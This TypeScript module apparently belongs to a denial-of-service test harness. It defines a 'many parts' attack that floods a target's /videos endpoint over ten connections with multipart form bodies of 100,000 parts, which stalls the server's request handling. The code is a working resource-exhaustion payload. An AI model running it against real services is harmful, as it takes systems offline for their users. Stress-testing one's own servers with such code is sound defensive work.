import type { Attack } from '../attack.ts'
import { rawFlood } from '../flood.ts'

const PARTS = 100_000
const BYTES = Buffer.from(`${'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n'.repeat(PARTS)}--b--\r\n`)

export const manyParts: Attack = {
  name: 'many parts',
  about: '10 at a time of forms of 100,000 parts; each held up all others for 0.27 s.',
  run: (target, signal) =>
    rawFlood(target, signal, {
      path: '/videos',
      connections: 10,
      head: `Content-Type: multipart/form-data; boundary=b\r\nContent-Length: ${BYTES.byteLength}`,
      body: () => [BYTES],
    }),
}
